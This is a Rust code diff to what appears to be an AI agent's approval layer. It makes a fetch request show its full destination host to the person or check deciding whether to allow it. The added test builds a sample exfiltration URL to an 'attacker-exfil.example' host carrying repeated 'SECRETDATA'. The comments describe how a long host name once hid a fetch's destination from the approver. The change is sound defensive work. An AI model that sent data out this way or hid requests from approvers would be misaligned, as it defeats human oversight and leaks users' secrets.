@@ -429,7 +429,10 @@ impl Base {
                 arg("filename"),
                 arg("mime_type")
             ),
-            "http_fetch" => format!("Fetch {}?", redact::redact_urls(&arg("url"))),
+            "http_fetch" => format!(
+                "Fetch {}?",
+                shown_url(args.get("url").and_then(Value::as_str).unwrap_or("?"), 120)
+            ),
             other => format!("Run {other}?"),
         }
     }
@@ -478,8 +481,33 @@ impl Base {
     }
 }
 
+/// A URL as a decider sees it: where it goes in full (scheme and host,
+/// however long), then as much of the rest as fits in `max` characters,
+/// with its whole length when cut; secrets hidden. Cut at a fixed length
+/// (or replaced by its digest when long), a fetch's destination had been
+/// hidden behind a long host name: what a decider of a fetch must see.
+fn shown_url(url: &str, max: usize) -> String {
+    let shown = redact::redact_urls(url);
+    let host_end = shown.find("://").map_or(0, |at| {
+        let rest = &shown[at + 3..];
+        at + 3 + rest.find(['/', '?', '#']).unwrap_or(rest.len())
+    });
+    let keep = max.max(shown[..host_end].chars().count());
+    let total = shown.chars().count();
+    let cut = if total > keep {
+        format!(
+            "{}… ({total} characters in all)",
+            shown.chars().take(keep).collect::<String>()
+        )
+    } else {
+        shown
+    };
+    crate::text::escape_controls(&cut).into_owned()
+}
+
 /// The arguments as a decider sees them: keys and URLs' secrets hidden,
-/// uploads and long text replaced by their size and digest.
+/// uploads and long text replaced by their size and digest, a URL shown
+/// with its whole destination.
 pub fn shown_arguments(args: &Value) -> Value {
     let shown = args
         .as_object()
@@ -487,6 +515,7 @@ pub fn shown_arguments(args: &Value) -> Value {
         .flatten()
         .map(|(k, v)| {
             let v = match v {
+                Value::String(s) if k == "url" => json!(shown_url(s, SHOWN_TEXT)),
                 Value::String(s) if k == "data_base64" || s.len() > SHOWN_TEXT => json!(format!(
                     "<{} characters, sha256 {}>",
                     s.len(),
@@ -832,6 +861,40 @@ impl Drop for Guard {
 
 #[cfg(test)]
 mod tests {
+    /// A fetch's destination is shown whole to whoever decides, however long
+    /// its host; the rest is cut with its length said. A URL of 4,000 and
+    /// more characters had been shown as its digest, and the summary cut at
+    /// 120 characters, inside the host.
+    #[test]
+    fn a_held_fetch_shows_its_whole_destination() {
+        let label = "a".repeat(63);
+        let host = format!("www.{label}.{label}.{label}.attacker-exfil.example");
+        let url = format!("https://{host}/collect?d={}", "SECRETDATA".repeat(383));
+        assert!(url.len() > SHOWN_TEXT && url.len() <= 4_096);
+        let base = Base {
+            entry: None,
+            digest: String::new(),
+        };
+        let summary = base.summary("http_fetch", &json!({"url": url}));
+        assert!(
+            summary.starts_with(&format!("Fetch https://{host}")),
+            "{summary}"
+        );
+        assert!(
+            summary.contains(&format!("({} characters in all)", url.len())),
+            "{summary}"
+        );
+        let shown = shown_arguments(&json!({"url": url}));
+        let shown = shown["url"].as_str().unwrap();
+        assert!(
+            shown.starts_with(&format!("https://{host}/collect?d=SECRETDATA")),
+            "{shown}"
+        );
+        // A short one is shown as it is, a password in it hidden.
+        let summary = base.summary("http_fetch", &json!({"url": "https://u:pw@api.example/x"}));
+        assert_eq!(summary, "Fetch https://u:***@api.example/x?");
+    }
+
     use super::*;
     use crate::access::approvals::Decide;
 
